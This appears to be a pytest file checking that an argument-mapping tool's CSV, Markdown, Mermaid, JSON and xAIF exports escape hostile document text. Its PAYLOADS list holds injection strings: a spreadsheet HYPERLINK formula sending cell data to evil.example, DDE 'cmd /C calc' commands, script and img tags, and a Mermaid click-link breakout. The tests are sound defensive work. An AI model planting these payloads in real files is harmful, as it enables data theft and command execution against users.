"""Exports carry document and model text: the renderings a viewer interprets (CSV in a
spreadsheet, Markdown, Mermaid) escape it, while JSON, Argdown and xAIF keep quotes exact."""

from __future__ import annotations

import csv
import json
import re

import pytest
from helpers import parse_argdown
from markdown_it import MarkdownIt

from arguments.claims import ArgumentMap, Claim
from arguments.exports import export, to_aif, to_argdown, to_markdown, to_mermaid
from documents import Citation, Document
from interface.web.audit import AuditRow
from interface.web.audit import export as audit_export

# A planted document: every line is a payload a reader's tool would act on.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "<img src=http://evil.example/a.png> and <script>alert(1)</script>",
    "![x](http://evil.example/a.png) and [link](http://evil.example)",
    '"]; click P href "http://evil.example" ; A["',
]
TEXT = "\n".join(PAYLOADS) + "\n"


@pytest.fixture(scope="module")
def planted():
    document = Document("evil", TEXT, "evil.txt", title="Planted <b>title</b>",
                        author="<i>Mallory</i>")
    citations = []
    for payload in PAYLOADS:
        start = TEXT.index(payload)
        citations.append(Citation.at(document, start, start + len(payload), "article"))
    return document, tuple(citations)


@pytest.fixture(scope="module")
def hostile_map(planted):
    _, citations = planted
    claims = [Claim(payload, "article", "pro" if n % 2 else "con", 0.8, (citation,))
              for n, (payload, citation) in enumerate(zip(PAYLOADS, citations, strict=True))]
    pro = tuple(c for c in claims if c.stance == "pro")
    con = tuple(c for c in claims if c.stance == "con")
    return ArgumentMap("<img src=http://evil.example/p.png> [p](http://evil.example)", pro, con,
                       ("<a href='http://evil.example'>warning</a>",))


@pytest.mark.reliability(
    "attacks",
    "quotes, claims and verdicts starting with =, +, -, @, tab or CR in an audit CSV",
    "no cell starts a formula; the text follows an apostrophe; numbers stay numbers")
def test_audit_csv_cells_never_start_a_formula(planted, tmp_path):
    document, citations = planted
    rows = [AuditRow("form", payload, citation, "=verdict", 0.5, "@reason")
            for payload, citation in zip(PAYLOADS, citations, strict=True)]
    path = audit_export(rows, {"evil": document}, "csv", tmp_path)
    with path.open(encoding="utf-8", newline="") as handle:
        read = list(csv.DictReader(handle))
    assert len(read) == len(PAYLOADS)
    for row, payload in zip(read, PAYLOADS, strict=True):
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
        # The cell still holds the whole text, after the apostrophe that marks it as text.
        assert row["quote"] == ("'" + payload if payload[0] in "=+-@\t\r" else payload)
        assert row["claim"] == row["quote"] and row["verdict"] == "'=verdict"
    assert read[0]["start"] == "0"  # numbers stay numbers


def test_audit_json_keeps_every_quote_exact(planted, tmp_path):
    document, citations = planted
    rows = [AuditRow("form", "claim", c, "supported", 0.9, "") for c in citations]
    data = json.loads(audit_export(rows, {"evil": document}, "json", tmp_path).read_text())
    assert [r["quote"] for r in data] == PAYLOADS
    assert all(document.text[r["start"]:r["end"]] == r["quote"] for r in data)


def _rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").render(markdown)


@pytest.mark.reliability("attacks",
                         "HTML, script, Markdown images and links in a map exported as Markdown",
                         "the rendered page has no img, script or link tag; the text is shown")
def test_markdown_export_renders_no_html_link_or_image(hostile_map, planted):
    document, _ = planted
    markdown = to_markdown(hostile_map, {"evil": document})
    page = _rendered(markdown)
    assert not re.search(r"<(img|script|a|b|i)\b", page), page
    assert "evil.example" in page  # the words are shown, as text
    # What a reader sees is still the planted text, character for character.
    assert "&lt;img src=http://evil.example/a.png&gt;" in page
    assert "![x](http://evil.example/a.png)" in page.replace("]\\(", "](")


@pytest.mark.reliability("attacks", "a quote that closes a Mermaid label and adds a click link",
                         "no label holds a label-ending character; no click line")
def test_mermaid_labels_hold_no_character_that_ends_a_label(hostile_map):
    mermaid = to_mermaid(hostile_map)
    labels = re.findall(r'^\s+\w+\["(.*)"\](?::::\w+)?$', mermaid, flags=re.MULTILINE)
    node_lines = [line for line in mermaid.splitlines() if '["' in line]
    assert len(labels) == len(node_lines) == 1 + len(PAYLOADS)
    for label in labels:
        assert not set(label) & set('"<>`[]{}|&\t\r\n'), label
    assert "click" not in "".join(line.split('["')[0] for line in mermaid.splitlines())
    assert "#quot;" in mermaid and "#60;img" in mermaid  # escaped, not dropped


@pytest.mark.reliability("attacks", "planted payloads as quotes, exported as JSON and xAIF",
                         "every quote equals the stored text at its offsets")
def test_json_and_aif_keep_quotes_equal_to_the_stored_text(hostile_map, planted):
    document, _ = planted
    data = json.loads(export(hostile_map, "json"))
    quotes = [c["quote"] for side in ("pro", "con") for claim in data[side]
              for c in claim["citations"]]
    assert sorted(quotes) == sorted(PAYLOADS)
    aif = to_aif(hostile_map, {"evil": document})["AIF"]
    by_id = {n["nodeID"]: n for n in aif["nodes"]}
    for locution in aif["locutions"]:
        quote = TEXT[locution["start"]:locution["end"]]
        assert by_id[locution["nodeID"]]["text"].endswith(" : " + quote)


def test_argdown_keeps_quotes_equal_to_the_stored_text(hostile_map, planted):
    _, citations = planted
    parsed = parse_argdown(to_argdown(hostile_map))
    assert parsed["parserErrors"] == [] and parsed["lexerErrors"] == []
    cited = [Citation(**c) for d in parsed["statementData"].values() if d
             for c in d["citations"]]
    assert sorted(cited, key=lambda c: c.start) == list(citations)
